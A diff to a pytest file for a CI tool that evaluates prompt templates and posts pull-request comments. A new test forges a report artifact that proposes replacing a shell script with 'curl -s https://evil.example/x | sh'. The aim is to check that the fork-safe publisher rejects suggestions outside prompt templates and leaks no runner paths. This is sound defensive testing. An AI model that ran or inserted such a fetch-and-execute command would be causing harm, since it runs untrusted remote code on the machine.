@@ -17,13 +17,13 @@ from pathlib import Path
 
 import pytest
 
-from lpo_ci.github.comment import MARKER
 from tests.support.action_runner import run_composite
 from tests.support.github_server import fake_github
-from tests.support.pr_project import (EDITED_LINE, git, make_regressed_project, pr_files,
+from tests.support.pr_project import (BAD, EDITED_LINE, GOOD, git, make_regressed_project, pr_files,
                                       pull_request_event)
 
 REPO = Path(__file__).resolve().parents[1]
+MARK = "<!-- lpo-ci:report "  # every sticky comment starts with its marker
 pytestmark = pytest.mark.slow
 
 
@@ -63,7 +63,7 @@ def test_a_regressed_pull_request_fails_the_check_and_gets_a_comment_and_a_sugge
         verdict = run.steps[-1]
         assert verdict.returncode == 1, run.log
         assert "accuracy regression" in verdict.stdout
-        assert [s.skipped for s in run.steps if s.skipped] == [
+        assert [s.skipped for s in run.steps if s.skipped and s.skipped != "if: false"] == [
             "uses actions/setup-python@a26af69be951a213d495a4c3e4e4022e16d87065", "skipped by the test",
             "uses actions/cache/restore@0400d5f644dc74513175e3cd8d07132dd4860809",
             "uses actions/cache/save@0400d5f644dc74513175e3cd8d07132dd4860809"]
@@ -79,7 +79,7 @@ def test_a_regressed_pull_request_fails_the_check_and_gets_a_comment_and_a_sugge
 
         # the sticky comment and the suggestion
         (comment,) = [dict(c) for c in gh.issue_comments[7]]  # a copy: the stand-in edits in place
-        assert comment["body"].startswith(MARKER) and "`prompts/x.j2`" in comment["body"]
+        assert comment["body"].startswith(MARK) and "`prompts/x.j2`" in comment["body"]
         assert "1 template regressed" in comment["body"] and "**FAIL**" in comment["body"]
         assert f"Posted as a one-click suggestion on line {EDITED_LINE}." in comment["body"]
         (suggestion,) = gh.review_comments[7]
@@ -87,7 +87,7 @@ def test_a_regressed_pull_request_fails_the_check_and_gets_a_comment_and_a_sugge
         assert "```suggestion\n" in suggestion["body"]
 
         # the job summary and the annotations
-        assert "| | template | data |" in run.summary and MARKER not in run.summary
+        assert "| | template | data |" in run.summary and MARK not in run.summary
         annotations = {(name, props.split(",")[0]) for name, props, _ in run.commands}
         assert ("error", "title=lpo-ci: accuracy regression") in annotations
         assert any(name == "notice" and f"line={EDITED_LINE}" in props for name, props, _ in run.commands)
@@ -164,3 +164,72 @@ def test_a_shallow_checkout_fetches_the_base_branch(tmp_path, openai_server, dat
     assert run.steps[-1].returncode == 1, run.log
     assert json.loads(Path(run.outputs["report"]).read_text(encoding="utf-8"))["base_rev"] == base
     assert git(workspace, "rev-parse", "origin/main").strip() == base
+
+
+def make_project_in_a_folder(workspace: Path, folder: str, openai_url: str) -> tuple[str, str]:
+    """A repository whose prompt project lives in ``folder`` (a monorepo); the feature branch
+    regresses its template. Returns (base sha, head sha)."""
+    project = workspace / folder
+    (project / "prompts").mkdir(parents=True)
+    (project / "pyproject.toml").write_text(f'[tool.lpo_ci]\nmodel = "openai/fake"\napi_base = "{openai_url}"\n',
+                                           encoding="utf-8")
+    (project / "prompts" / "x.j2").write_text(GOOD, encoding="utf-8")
+    (project / "run.sh").write_text("#!/bin/sh\nmake\n", encoding="utf-8")
+    git(workspace, "init", "-q", "-b", "main")
+    git(workspace, "add", "-A")
+    git(workspace, "commit", "-q", "-m", "base")
+    base = git(workspace, "rev-parse", "HEAD").strip()
+    git(workspace, "checkout", "-q", "-b", "feature")
+    (project / "prompts" / "x.j2").write_text(BAD, encoding="utf-8")
+    (project / "run.sh").write_text("#!/bin/sh\necho building\nmake\n", encoding="utf-8")
+    git(workspace, "commit", "-q", "-am", "reword the prompt, touch the script")
+    return base, git(workspace, "rev-parse", "HEAD").strip()
+
+
+def test_a_project_in_a_folder_then_a_crafted_artifact_through_the_fork_safe_publisher(
+        tmp_path, openai_server, data_dir):
+    """working-directory names the project in both halves; the publisher (no checkout) reads the
+    globs from the base branch's svc/pyproject.toml and posts nothing the crafted report aims
+    outside the templates; outputs describe every template."""
+    workspace = tmp_path / "workspace"
+    base, head = make_project_in_a_folder(workspace, "svc", openai_server.url)
+    with fake_github() as gh:
+        gh.add_pull(7, head_sha=head, base_sha=base, files=pr_files(workspace, base, head))
+        gh.add_contents(base, "svc/pyproject.toml", git(workspace, "show", f"{base}:svc/pyproject.toml"))
+        run = run_action(tmp_path, workspace, gh, pull_request_event(7, base, head),
+                         **{"working-directory": "svc", "budget-calls": "400"})
+        assert run.steps[-1].returncode == 1, run.log
+        (comment,) = gh.issue_comments[7]
+        assert "### lpo-ci `svc`: 1 template regressed" in comment["body"]
+        (suggestion,) = gh.review_comments[7]
+        assert (suggestion["path"], suggestion["line"]) == ("svc/prompts/x.j2", EDITED_LINE)
+
+        report = json.loads(Path(run.outputs["report"]).read_text(encoding="utf-8"))
+        assert report["repo_prefix"] == "svc/"
+        crafted = json.loads(json.dumps(report))
+        script = json.loads(json.dumps(report["templates"][0]))
+        script["template"] = "run.sh"
+        script["optimization"].update(head_source="#!/bin/sh\necho building\nmake\n",
+                                      winner_source="#!/bin/sh\ncurl -s https://evil.example/x | sh\nmake\n")
+        broken = dict(json.loads(json.dumps(report["templates"][0])), template="prompts/y.j2", status="error",
+                      reason="/home/runner/work/prompts/prompts/svc/prompts/y.j2:3: unknown variable",
+                      optimization=None)
+        crafted["templates"] += [script, broken]
+        artifact = tmp_path / "artifact"
+        artifact.mkdir()
+        (artifact / "report.json").write_text(json.dumps(crafted), encoding="utf-8")
+        publisher = tmp_path / "publisher"
+        publisher.mkdir()  # no checkout: the folder svc does not exist here
+        run_event = {"action": "completed", "workflow_run": {"id": 9, "event": "pull_request", "head_sha": head}}
+        publish = run_action(tmp_path, publisher, gh, run_event, report=str(artifact / "report.json"),
+                             **{"pr-number": "7", "working-directory": "svc"})
+        assert publish.steps[-1].returncode == 1, publish.log
+        assert "accuracy regression, and templates that could not be evaluated" in publish.steps[-1].stdout
+        assert publish.outputs["regressed"] == "true" and publish.outputs["errored"] == "true"
+        assert [c["path"] for c in gh.review_comments[7]] == ["svc/prompts/x.j2"]  # not again, not run.sh
+        (comment,) = gh.issue_comments[7]
+        text = comment["body"] + publish.summary + Path(publish.outputs["patch"]).read_text(encoding="utf-8")
+        assert "evil.example" not in text and "/home/runner" not in text
+        assert "svc/run.sh is not a prompt template" in comment["body"].replace("\\", "")
+        assert "svc/prompts/y.j2:3: unknown variable" in comment["body"].replace("\\", "")
+        assert any(name == "error" and "file=svc/prompts/y.j2,line=3" in props for name, props, _ in publish.commands)
